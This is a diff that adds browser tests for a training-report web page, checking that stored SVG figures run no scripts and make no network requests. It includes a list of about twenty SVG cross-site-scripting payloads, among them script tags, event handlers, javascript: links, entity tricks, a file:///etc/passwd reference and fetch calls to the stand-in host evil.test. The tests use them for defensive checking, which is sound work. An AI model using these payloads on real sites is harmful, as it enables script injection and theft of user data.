@@ -1,11 +1,15 @@
 """The page in a browser: sorting, filtering, small screens, dark mode, keyboard, and no request to a network."""
 
+import base64
+import io
 import itertools
 import shutil
 from contextlib import contextmanager
 
+import numpy as np
 import pytest
 from made_up_runs import made_up
+from PIL import Image
 
 from longtail.launch import train
 from longtail.recipes import recipe_for
@@ -169,3 +173,110 @@ def test_a_printed_page_hides_controls_and_shows_whole_tables(browser, pages):
 def test_without_scripts_the_tables_are_shown(browser, pages):
     with open_page(browser, pages["one"], java_script_enabled=False) as page:
         assert page.locator(".classes tbody tr").count() == 10 and not page.locator(".filter").is_visible()
+
+
+HEAD = (
+    '<svg role="img" aria-label="words" data-of="longtail figure {name}" xmlns="http://www.w3.org/2000/svg" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 100" width="200" height="100"'
+)
+RUN = "top.document.title='taken';top.taken=1;fetch('http://evil.test/')"
+PICTURE = "<rect width='200' height='100' fill='#00f'/>"
+PAYLOADS = {
+    "a script element": f">{PICTURE}<script>{RUN}</script></svg>",
+    "a script in CDATA": f">{PICTURE}<script><![CDATA[{RUN}]]></script></svg>",
+    "a script in another case and namespace": f" xmlns:h='http://www.w3.org/1999/xhtml'>{PICTURE}<h:script>{RUN}</h:script></svg>",
+    "a script that is base64 data": f">{PICTURE}<script href='data:text/javascript;base64,"
+    + base64.b64encode(RUN.encode()).decode()
+    + "'/></svg>",
+    "an external script": f">{PICTURE}<script xlink:href='http://evil.test/a.js'/></svg>",
+    "onload of the root": f' onload="{RUN}">{PICTURE}</svg>',
+    "onload after a slash": f"><g/><image href='data:,' onerror=\"{RUN}\"/>{PICTURE}</svg>",
+    "a frame in a foreign object": ">" + PICTURE + "<foreignObject width='9' height='9'><iframe "
+    f"xmlns='http://www.w3.org/1999/xhtml' srcdoc=\"&lt;script&gt;{RUN}&lt;/script&gt;\"/></foreignObject></svg>",
+    "an image with an error in a foreign object": ">" + PICTURE + "<foreignObject width='9' height='9'><img "
+    f"xmlns='http://www.w3.org/1999/xhtml' src='x:' onerror=\"{RUN}\"/></foreignObject></svg>",
+    "a link with a script": f">{PICTURE}<a href=\"javascript:{RUN}\"><rect width='200' height='100'/></a></svg>",
+    "a link in entities": ">"
+    + PICTURE
+    + f"<a xlink:href=\"&#106;avascript&colon;{RUN}\"><rect width='200' height='100'/></a></svg>",
+    "an animated link": f"><a>{PICTURE}<animate attributeName='href' values=\"javascript:{RUN}\" dur='1s'/></a></svg>",
+    "an animated handler": f"><g>{PICTURE}<animate attributeName='x' dur='.01s' onbegin=\"{RUN}\"/></g></svg>",
+    "a set link": f"><a>{PICTURE}<set attributeName='xlink:href' to=\"javascript:{RUN}\"/></a></svg>",
+    "use of another file": f">{PICTURE}<use href='http://evil.test/a.svg#x'/><use xlink:href='file:///etc/passwd#x'/></svg>",
+    "an external image": f">{PICTURE}<image href='http://evil.test/a.png' width='9' height='9'/></svg>",
+    "an imported style": f">{PICTURE}<style>@import url(http://evil.test/a.css); * {{fill: url(//evil.test/b)}}</style></svg>",
+    "a style sheet of the page": f">{PICTURE}<style>body, main {{display: none !important}}</style></svg>",
+    "an entity": f'>{PICTURE}<!DOCTYPE svg [<!ENTITY x "<script>{RUN}</script>">]>&x;</svg>',
+    "the end of the picture": f'>{PICTURE}</svg>"><script>{RUN}</script><img src=x onerror="{RUN}">',
+    "a description with markup": None,
+}
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_stored_figure_of_a_shared_run_runs_nothing_and_loads_nothing(browser, tmp_path, payload):
+    run = made_up(tmp_path / "run", ["a", "b"], [200, 5]).path
+    (run / "figures").mkdir()
+    svg = HEAD.format(name="landscape") + (PAYLOADS[payload] or f">{PICTURE}</svg>")
+    if PAYLOADS[payload] is None:
+        svg = svg.replace('"words"', '"&quot;&gt;&lt;script&gt;top.taken=1&lt;/script&gt;"')
+    (run / "figures" / "landscape.svg").write_text(svg)
+    with open_page(browser, write_report([run])) as page:
+        title = page.title()
+        picture = page.locator(".picture img")
+        assert picture.count() == 1 and page.locator("figure svg script, figure a, iframe").count() == 0
+        picture.scroll_into_view_if_needed()
+        picture.click(position={"x": 5, "y": 5})
+        page.wait_for_timeout(80)
+        assert page.evaluate("window.taken === undefined") and page.title() == title != "taken"
+        assert page.locator("main").is_visible() and page.url.startswith("file:")
+        whole = page.evaluate("document.querySelector('.picture img').naturalWidth > 0")
+        assert whole or payload in BROKEN
+
+
+BROKEN = ("a link in entities", "an entity", "the end of the picture")  # no XML, so no picture
+
+
+def test_the_policy_stops_scripts_and_styles_that_are_not_of_the_page(browser, pages, tmp_path):
+    extra = (
+        '<script>top.taken=1</script><img src="x:" onerror="top.taken=1"><p id="p" style="color:rgb(1, 2, 3)">'
+        "<style>#p { color: rgb(1, 2, 3) }</style>"
+    )
+    (tmp_path / "changed.html").write_text(pages["two"].read_text().replace("</main>", f"{extra}</main>"))
+    page = browser.new_page()
+    page.goto((tmp_path / "changed.html").as_uri())
+    page.wait_for_timeout(80)
+    assert page.evaluate("window.taken === undefined")
+    assert page.evaluate("getComputedStyle(document.getElementById('p')).color") != "rgb(1, 2, 3)"
+    page.get_by_role("button", name="Class", exact=True).click()  # the script of the page still runs
+    page.close()
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_a_stored_figure_is_dark_ink_on_white_in_light_and_dark_mode(browser, tmp_path, scheme):
+    run = made_up(tmp_path / "run", ["a", "b"], [200, 5]).path
+    (run / "figures").mkdir()
+    content = '><rect x="50" width="100" height="100" fill="currentColor"/></svg>'
+    (run / "figures" / "landscape.svg").write_text(HEAD.format(name="landscape") + content)
+    with open_page(browser, write_report([run]), color_scheme=scheme) as page:
+        image = page.locator(".picture img")
+        image.scroll_into_view_if_needed()
+        pixels = np.asarray(Image.open(io.BytesIO(image.screenshot())).convert("RGB"))
+        height, width, _ = pixels.shape
+        assert pixels[height // 2, width // 2].tolist() == [0x13, 0x14, 0x15]
+        assert pixels[height // 2, width // 10].tolist() == [255, 255, 255]
+
+
+def test_bars_and_figures_keep_their_widths_and_colors_without_style_attributes(browser, pages):
+    with open_page(browser, pages["one"]) as page:
+        shares = page.evaluate(
+            "Array.from(document.querySelectorAll('.bar-row'), r => [r.querySelector('.fill').offsetWidth / "
+            "r.querySelector('.bar').clientWidth * 100, +r.querySelector('.bar-value').innerText])"
+        )
+        assert shares and all(abs(drawn - printed) < 1 for drawn, printed in shares)
+        properties = page.evaluate(
+            "Array.from(document.querySelectorAll('.bar-cell'), c => [getComputedStyle(c).getPropertyValue('--p'), c.innerText])"
+        )
+        assert properties and all(float(p) == float(text) for p, text in properties)
+        assert page.evaluate("Array.from(document.querySelectorAll('figure')).every(f => f.offsetWidth > 100)")
+        filled = "Array.from(document.querySelectorAll('figure svg path'), p => getComputedStyle(p).fill)"
+        assert len(set(page.evaluate(filled))) > 3
